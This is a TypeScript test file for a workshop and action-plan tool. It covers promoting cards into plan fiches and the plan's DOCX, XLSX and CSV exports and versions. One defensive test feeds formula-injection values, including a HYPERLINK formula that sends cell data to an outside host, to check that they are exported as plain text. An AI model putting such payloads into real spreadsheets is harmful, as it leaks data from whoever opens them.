import {
  addAxis,
  addCard,
  cardBody,
  cardById,
  FACILITATOR_PARTICIPANT_ID,
  ficheDescription,
  formatEuros,
  fragmentText,
  groupCards,
  listFiches,
  moveCard,
  setBudgetLine,
  setCardStatus,
  setIndicator,
  setIndicatorValue,
  updateCard,
  updateFiche,
} from "@atelier/shared";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import * as Y from "yjs";
import { type CollabClient, connectClient, waitFor } from "./support/collab-client.ts";
import { docxText, officePart } from "./support/docx-text.ts";
import { useTestServer } from "./support/use-test-server.ts";

const server = useTestServer();

const author = { authorId: FACILITATOR_PARTICIPANT_ID, authorName: "Anne", authorRole: "facilitator" } as const;

async function settled(client: CollabClient) {
  await waitFor(
    () => client.provider.unsyncedChanges,
    (n) => n === 0,
  );
}

/** A board with a cluster of two agreed cards ("k") and a loose draft card, and a live view of the plan. */
async function workshop() {
  const space = await server.createSpace();
  const board = space.boards[0];
  if (!board) throw new Error("no board");
  const facilitator = await connectClient(server.wsUrl, board.documentName, space.facilitatorSecret);
  const plan = await connectClient(server.wsUrl, space.plan.documentName, space.facilitatorSecret);
  addCard(facilitator.doc, "a", { kind: "besoin", title: "Places d'accueil en horaires atypiques", ...author }, 1);
  addCard(facilitator.doc, "b", { kind: "constat", title: "Familles monoparentales en hausse", ...author }, 1);
  addCard(facilitator.doc, "c", { kind: "piste", title: "Brouillon", ...author }, 1);
  groupCards(facilitator.doc, "a", "b", { id: "k", name: "Accueil du jeune enfant", color: "vert" });
  setCardStatus(facilitator.doc, "a", "agreed", 2);
  setCardStatus(facilitator.doc, "b", "agreed", 2);
  await settled(facilitator);
  return { space, board, facilitator, plan };
}

/** A paragraph as the editor stores it, each run with its marks (`{ bold: {} }`). */
function paragraph(...runs: [string, Record<string, object>?][]): Y.XmlElement {
  const element = new Y.XmlElement("paragraph");
  element.insert(
    0,
    runs.map(([words, marks]) => {
      const text = new Y.XmlText();
      text.insert(0, words, marks);
      return text;
    }),
  );
  return element;
}

function bulletList(...items: string[]): Y.XmlElement {
  const list = new Y.XmlElement("bulletList");
  list.insert(
    0,
    items.map((words) => {
      const item = new Y.XmlElement("listItem");
      item.insert(0, [paragraph([words])]);
      return item;
    }),
  );
  return list;
}

function promote(spaceId: string, token: string, body: unknown) {
  return server.request("POST", `/api/spaces/${spaceId}/plan/promotions`, { token, body });
}

describe("promotion into the action plan", () => {
  it("creates exactly one fiche when the same cluster is promoted twice at once, and links both ways", async () => {
    const { space, board, facilitator, plan } = await workshop();
    const body = { boardId: board.id, clusterId: "k", target: { axisId: null, title: "Accueil petite enfance" } };
    const responses = await Promise.all([
      promote(space.id, space.facilitatorSecret, body),
      promote(space.id, space.facilitatorSecret, body),
    ]);
    expect(responses.map((response) => response.status)).toEqual([201, 201]);
    const results = (await Promise.all(responses.map((response) => response.json()))) as {
      ficheId: string;
      created: boolean;
    }[];
    expect(new Set(results.map((result) => result.ficheId)).size).toBe(1);
    expect(results.filter((result) => result.created)).toHaveLength(1);
    await waitFor(
      () => listFiches(plan.doc).length,
      (n) => n === 1,
    );
    const [fiche] = listFiches(plan.doc);
    expect(fiche).toMatchObject({ title: "Accueil petite enfance", status: "proposee", themes: [board.theme] });
    expect(fiche?.sources.map((source) => [source.boardId, source.cardId]).sort()).toEqual([
      [board.id, "a"],
      [board.id, "b"],
    ]);
    await waitFor(
      () =>
        ["a", "b", "c"].map((id) => [cardById(facilitator.doc, id)?.status, cardById(facilitator.doc, id)?.promotedTo]),
      (states) =>
        JSON.stringify(states) ===
        JSON.stringify([
          ["promoted", fiche?.id],
          ["promoted", fiche?.id],
          ["draft", undefined],
        ]),
    );
    // Once more, later: still one fiche.
    expect(await (await promote(space.id, space.facilitatorSecret, body)).json()).toMatchObject({
      ficheId: fiche?.id,
      created: false,
    });
    expect(listFiches(plan.doc)).toHaveLength(1);
  });

  it("refuses partners and habitants, and cards nobody agreed on, changing nothing", async () => {
    const { space, board, plan } = await workshop();
    const partner = await server.join(space, "partner", "Samia");
    const habitant = await server.join(space, "habitant", "Lou");
    const body = { boardId: board.id, clusterId: "k", target: { axisId: null } };
    for (const token of [partner.participantToken, habitant.participantToken]) {
      const response = await promote(space.id, token, body);
      expect(response.status).toBe(403);
      expect(((await response.json()) as { error: string }).error).toMatch(/animateur/);
    }
    const draft = await promote(space.id, space.facilitatorSecret, {
      boardId: board.id,
      cardIds: ["c"],
      target: { axisId: null },
    });
    expect(draft.status).toBe(409);
    const invalid = await promote(space.id, space.facilitatorSecret, { boardId: board.id, target: { axisId: null } });
    expect(((await invalid.json()) as { error: string }).error).toMatch(/cardIds, soit clusterId/);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(listFiches(plan.doc)).toEqual([]);
  });

  it("keeps provenance right after the source card is edited or moved and its board renamed", async () => {
    const { space, board, facilitator, plan } = await workshop();
    const promoted = (await (
      await promote(space.id, space.facilitatorSecret, { boardId: board.id, cardIds: ["a"], target: { axisId: null } })
    ).json()) as { ficheId: string };
    updateCard(facilitator.doc, "a", { title: "Accueil en horaires décalés" }, 3);
    moveCard(facilitator.doc, "a", null, 0);
    await settled(facilitator);
    await server.request("PATCH", `/api/spaces/${space.id}/boards/${board.id}`, {
      token: space.facilitatorSecret,
      body: { theme: "Petite enfance et parentalité" },
    });
    await waitFor(
      () => listFiches(plan.doc)[0]?.sources[0],
      (source) => source?.cardId === "a",
    );
    const [source] = listFiches(plan.doc)[0]?.sources ?? [];
    // The link is by ids: it still leads to the card, whose current title and board's current theme can be shown.
    expect(cardById(facilitator.doc, source?.cardId ?? "")).toMatchObject({
      title: "Accueil en horaires décalés",
      promotedTo: promoted.ficheId,
    });
    const spaceView = (await (await server.request("GET", `/api/spaces/${space.id}`)).json()) as {
      boards: { id: string; theme: string }[];
    };
    expect(spaceView.boards.find((entry) => entry.id === source?.boardId)?.theme).toBe("Petite enfance et parentalité");
  });
});

describe("a promoted card's text in the fiche", () => {
  it("brings each card's title in bold and its body, formatting and list items kept, once however often", async () => {
    const { space, board, facilitator, plan } = await workshop();
    cardBody(facilitator.doc, "a")?.insert(0, [
      paragraph(["Une "], ["crèche", { bold: {} }], [" à horaires décalés"]),
      bulletList("12 places", "porteur : SIVU"),
    ]);
    await settled(facilitator);
    const body = { boardId: board.id, clusterId: "k", target: { axisId: null, title: "Accueil petite enfance" } };
    const { ficheId } = (await (await promote(space.id, space.facilitatorSecret, body)).json()) as { ficheId: string };
    const description = () => ficheDescription(plan.doc, ficheId);
    const expected = [
      "Places d'accueil en horaires atypiques",
      "Une crèche à horaires décalés",
      "• 12 places",
      "• porteur : SIVU",
      "Familles monoparentales en hausse",
    ].join("\n");
    await waitFor(
      () => (description() ? fragmentText(description() as Y.XmlFragment) : ""),
      (text) => text === expected,
    );
    // Structure and marks, not only words: the titles and the bold word stay bold, the list stays a list.
    expect(description()?.toJSON()).toContain("<bold>crèche</bold>");
    expect(description()?.toJSON()).toContain("<paragraph><bold>Familles monoparentales en hausse</bold></paragraph>");
    expect(
      description()
        ?.toArray()
        .map((node) => (node as Y.XmlElement).nodeName),
    ).toEqual(["paragraph", "paragraph", "bulletList", "paragraph"]);

    // Again, the same cards and then one of them into the fiche by its id: nothing is repeated.
    await promote(space.id, space.facilitatorSecret, body);
    await promote(space.id, space.facilitatorSecret, {
      boardId: board.id,
      cardIds: ["a"],
      target: { ficheId },
    });
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(fragmentText(description() as Y.XmlFragment)).toBe(expected);
  });

  it("lists a fiche's sources in the order their texts joined the description: the board's", async () => {
    const { space, board, facilitator, plan } = await workshop();
    addCard(facilitator.doc, "q", { kind: "besoin", title: "Un relais petite enfance itinérant", ...author }, 1);
    addCard(
      facilitator.doc,
      "p",
      { kind: "constat", title: "Trois communes sans assistante maternelle", ...author },
      1,
    );
    groupCards(facilitator.doc, "q", "p", { id: "m", name: "Assistantes maternelles", color: "bleu" });
    setCardStatus(facilitator.doc, "q", "agreed", 2);
    setCardStatus(facilitator.doc, "p", "agreed", 2);
    await settled(facilitator);
    const body = { boardId: board.id, clusterId: "m", target: { axisId: null, title: "Relais itinérant" } };
    const { ficheId } = (await (await promote(space.id, space.facilitatorSecret, body)).json()) as { ficheId: string };
    const fiche = () => listFiches(plan.doc).find((candidate) => candidate.id === ficheId);
    await waitFor(
      () => fiche()?.sources.length ?? 0,
      (count) => count === 2,
    );
    const described = fragmentText(ficheDescription(plan.doc, ficheId) as Y.XmlFragment).split("\n");
    expect(fiche()?.sources.map((source) => source.title)).toEqual(described);
    expect(described).toEqual(["Un relais petite enfance itinérant", "Trois communes sans assistante maternelle"]);
  });

  it("appends a card promoted later into an existing fiche", async () => {
    const { space, board, facilitator, plan } = await workshop();
    const { ficheId } = (await (
      await promote(space.id, space.facilitatorSecret, { boardId: board.id, cardIds: ["a"], target: { axisId: null } })
    ).json()) as { ficheId: string };
    cardBody(facilitator.doc, "b")?.insert(0, [paragraph(["Surtout en centre-bourg", { italic: {} }])]);
    await settled(facilitator);
    await promote(space.id, space.facilitatorSecret, { boardId: board.id, cardIds: ["b"], target: { ficheId } });
    await waitFor(
      () => fragmentText(ficheDescription(plan.doc, ficheId) ?? new Y.XmlFragment()),
      (text) => text.endsWith("Surtout en centre-bourg"),
    );
    expect(fragmentText(ficheDescription(plan.doc, ficheId) as Y.XmlFragment)).toBe(
      "Places d'accueil en horaires atypiques\nFamilles monoparentales en hausse\nSurtout en centre-bourg",
    );
    expect(ficheDescription(plan.doc, ficheId)?.toJSON()).toContain("<italic>Surtout en centre-bourg</italic>");
  });
});

describe("exports and versions of the plan", () => {
  /** A CSV line's cells up to the years' (the fiche's other fields follow them), for a test without `;` in a cell. */
  const upToTheYears = (line = "") => line.split(";").slice(0, 13).join(";");

  async function filledPlan() {
    const context = await workshop();
    const { space, board, plan } = context;
    const { ficheId } = (await (
      await promote(space.id, space.facilitatorSecret, {
        boardId: board.id,
        clusterId: "k",
        target: { axisId: null, title: "Relais petite enfance" },
      })
    ).json()) as { ficheId: string };
    await waitFor(
      () => listFiches(plan.doc).length,
      (n) => n === 1,
    );
    addAxis(plan.doc, "axe1", { title: "Soutenir les familles" });
    updateFiche(plan.doc, ficheId, { axisId: "axe1", pilot: "Commune de Prades", status: "validee" }, 5);
    const line = { nature: "fonctionnement", dispositif: null } as const;
    setBudgetLine(plan.doc, ficheId, "l1", {
      ...line,
      financer: { kind: "caf", label: "" },
      amount: 12500,
      year: 2022,
    });
    setBudgetLine(plan.doc, ficheId, "l2", {
      ...line,
      financer: { kind: "commune", label: "" },
      amount: 7500,
      year: 2022,
    });
    setBudgetLine(plan.doc, ficheId, "l3", {
      ...line,
      financer: { kind: "caf", label: "" },
      amount: 10000,
      year: 2023,
    });
    setIndicator(plan.doc, ficheId, "i1", { label: "Places créées", kind: "realisation", unit: "places", target: 12 });
    setIndicatorValue(plan.doc, ficheId, "i1", 2022, 4);
    setIndicatorValue(plan.doc, ficheId, "i1", 2023, 9);
    await settled(plan);
    return { ...context, ficheId };
  }

  it("exports a DOCX that reads back with every fiche and the budget totals", async () => {
    const { space } = await filledPlan();
    const response = await server.request("GET", `/api/spaces/${space.id}/plan/export/docx`, {
      token: space.facilitatorSecret,
    });
    expect(response.headers.get("content-type")).toMatch(/wordprocessingml/);
    const text = await docxText(response);
    for (const expected of [
      "Soutenir les familles",
      "Relais petite enfance",
      "Commune de Prades",
      formatEuros(20000),
      formatEuros(10000),
      formatEuros(30000),
    ]) {
      expect(text).toContain(expected);
    }
    // Signature blocks for the two parties every CTG has, until the space names its own.
    expect(text).toContain("Pour la Caf, le ____________ :");
    const named = await server.request("PATCH", `/api/spaces/${space.id}`, {
      token: space.facilitatorSecret,
      body: {
        parties: [
          { kind: "caf", name: "Caf des Pyrénées-Orientales" },
          { kind: "epci", name: "Communauté de communes Conflent-Canigou" },
          { kind: "commune", name: "Prades" },
        ],
      },
    });
    expect(named.status).toBe(200);
    const signed = await docxText(
      await server.request("GET", `/api/spaces/${space.id}/plan/export/docx`, { token: space.facilitatorSecret }),
    );
    expect(signed).toContain(
      "Pour la Caf des Pyrénées-Orientales, le ____________ :" +
        "Pour la Communauté de communes Conflent-Canigou, le ____________ :" +
        "Pour la commune de Prades, le ____________ :",
    );
    expect(signed).not.toContain("Pour la collectivité");
  });

  it("exports the follow-up table as XLSX and CSV, with a column per year and the totals", async () => {
    const { space } = await filledPlan();
    const xlsx = await server.request("GET", `/api/spaces/${space.id}/plan/export/xlsx`, {
      token: space.facilitatorSecret,
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    const followUp = workbook.getWorksheet("Suivi");
    // The fiche's other fields follow the years: fiche-fields-export.test.ts reads them.
    expect(((followUp?.getRow(1).values ?? []) as unknown[]).slice(0, 14)).toEqual([
      undefined,
      "Axe",
      "Fiche action",
      "Statut",
      "Pilote",
      "Indicateur",
      "Type",
      "Unité",
      "Cible",
      "2021",
      "2022",
      "2023",
      "2024",
      "2025",
    ]);
    expect(((followUp?.getRow(2).values ?? []) as unknown[]).slice(0, 12)).toEqual([
      undefined,
      "Soutenir les familles",
      "Relais petite enfance",
      "Validée en COPIL",
      "Commune de Prades",
      "Places créées",
      "Réalisation",
      "places",
      12,
      undefined,
      4,
      9,
    ]);
    const budget = workbook.getWorksheet("Budget");
    const totals = budget?.getRow(budget.rowCount).values as unknown[];
    expect(totals).toEqual([undefined, "Total", 0, 20000, 10000, 0, 0, 30000]);

    const csv = await (
      await server.request("GET", `/api/spaces/${space.id}/plan/export/csv`, { token: space.facilitatorSecret })
    ).text();
    const lines = csv
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\n");
    expect(upToTheYears(lines[0])).toBe(
      "Axe;Fiche action;Statut;Pilote;Indicateur;Type;Unité;Cible;2021;2022;2023;2024;2025",
    );
    expect(upToTheYears(lines[1])).toBe(
      "Soutenir les familles;Relais petite enfance;Validée en COPIL;Commune de Prades;Places créées;Réalisation;places;12;;4;9;;",
    );
    const habitant = await server.join(space, "habitant", "Lou");
    expect(
      (await server.request("GET", `/api/spaces/${space.id}/plan/export/csv`, { token: habitant.participantToken }))
        .status,
    ).toBe(403);
  });

  it("names the tool as the author of its DOCX and XLSX, rather than the libraries' « Un-named » and « Unknown »", async () => {
    const { space } = await filledPlan();
    for (const format of ["docx", "xlsx"] as const) {
      const exported = await server.request("GET", `/api/spaces/${space.id}/plan/export/${format}`, {
        token: space.facilitatorSecret,
      });
      const core = await officePart(exported, "docProps/core.xml");
      expect(core, format).toMatch(/<dc:creator>Atelier CTG<\/dc:creator>/);
      expect(core, format).toMatch(/<cp:lastModifiedBy>Atelier CTG<\/cp:lastModifiedBy>/);
      expect(core, format).not.toMatch(/Un-named|Unknown/);
    }
  });

  it("writes cells a spreadsheet would run as formulas as text, in the CSV and the XLSX", async () => {
    const { space, plan, ficheId } = await filledPlan();
    const hostile = '=HYPERLINK("http://example.org/?"&A2,"Cliquez")';
    updateFiche(plan.doc, ficheId, { title: hostile, pilot: "@SUM(1+1)" }, 6);
    setIndicator(plan.doc, ficheId, "i1", { label: "+33 places", kind: "realisation", unit: "-places", target: -3 });
    await settled(plan);
    const csv = await (
      await server.request("GET", `/api/spaces/${space.id}/plan/export/csv`, { token: space.facilitatorSecret })
    ).text();
    const row =
      csv
        .replace(/^\uFEFF/, "")
        .trim()
        .split("\n")[1] ?? "";
    expect(upToTheYears(row)).toBe(
      `Soutenir les familles;"'=HYPERLINK(""http://example.org/?""&A2,""Cliquez"")";Validée en COPIL;'@SUM(1+1);'+33 places;Réalisation;'-places;-3;;4;9;;`,
    );
    const xlsx = await server.request("GET", `/api/spaces/${space.id}/plan/export/xlsx`, {
      token: space.facilitatorSecret,
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    const cell = workbook.getWorksheet("Suivi")?.getRow(2).getCell(2);
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.value).toBe(hostile);
  });

  it("exports a description's bold and italic words as words, in the DOCX, XLSX, CSV and the version comparison", async () => {
    const { space, plan, ficheId } = await filledPlan();
    const description = ficheDescription(plan.doc, ficheId);
    description?.delete(0, description.length);
    description?.insert(0, [paragraph(["Un "], ["relais", { bold: {} }], [" "], ["itinérant", { italic: {} }])]);
    await settled(plan);
    const response = await server.request("GET", `/api/spaces/${space.id}/plan/export/docx`, {
      token: space.facilitatorSecret,
    });
    const text = await docxText(response);
    expect(text).toContain("Un relais itinérant");
    expect(text).not.toMatch(/bold|italic/);
    const exported = (format: "xlsx" | "csv") =>
      server.request("GET", `/api/spaces/${space.id}/plan/export/${format}`, { token: space.facilitatorSecret });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await exported("xlsx")).arrayBuffer());
    const sheet = workbook.getWorksheet("Suivi");
    if (!sheet) throw new Error("no « Suivi » sheet");
    const column = (sheet.getRow(1).values as unknown[]).indexOf("Description");
    expect(sheet.getRow(2).getCell(column).value).toBe("Un relais itinérant");
    const csv = await (await exported("csv")).text();
    expect(csv).toContain("Un relais itinérant");
    expect(csv).not.toMatch(/bold|italic|<\//);

    const version = await server.request("POST", `/api/spaces/${space.id}/plan/versions`, {
      token: space.facilitatorSecret,
      body: { label: "Avant" },
    });
    const { id } = (await version.json()) as { id: string };
    description?.insert(description.length, [paragraph(["Ouvert le "], ["mercredi", { bold: {} }])]);
    await settled(plan);
    const comparison = (await (
      await server.request("GET", `/api/spaces/${space.id}/plan/versions/${id}/compare/current`, {
        token: space.facilitatorSecret,
      })
    ).json()) as { changed: { fields: { field: string; before: string; after: string }[] }[] };
    expect(comparison.changed[0]?.fields).toEqual([
      { field: "description", before: "Un relais itinérant", after: "Un relais itinérant\nOuvert le mercredi" },
    ]);
  });

  it("keeps what the COPIL validated, and compares it with the plan as it is now", async () => {
    const { space, plan, ficheId } = await filledPlan();
    const meeting = (await (
      await server.request("POST", `/api/spaces/${space.id}/meetings`, {
        token: space.facilitatorSecret,
        body: { date: "2022-03-14", kind: "copil", title: "COPIL de validation", decisions: "Plan validé." },
      })
    ).json()) as { id: string };
    const version = await server.request("POST", `/api/spaces/${space.id}/plan/versions`, {
      token: space.facilitatorSecret,
      body: { label: "Plan validé en COPIL", meetingId: meeting.id },
    });
    const { id } = (await version.json()) as { id: string };
    updateFiche(plan.doc, ficheId, { pilot: "CdC Conflent-Canigou" }, 6);
    await settled(plan);
    const comparison = await server.request("GET", `/api/spaces/${space.id}/plan/versions/${id}/compare/current`, {
      token: space.facilitatorSecret,
    });
    expect(await comparison.json()).toEqual({
      added: [],
      removed: [],
      changed: [
        {
          ficheId,
          title: "Relais petite enfance",
          fields: [{ field: "pilot", before: "Commune de Prades", after: "CdC Conflent-Canigou" }],
        },
      ],
    });
    const unchanged = await server.request("GET", `/api/spaces/${space.id}/plan/versions/${id}/compare/${id}`, {
      token: space.facilitatorSecret,
    });
    expect(await unchanged.json()).toEqual({ added: [], removed: [], changed: [] });
  });
});
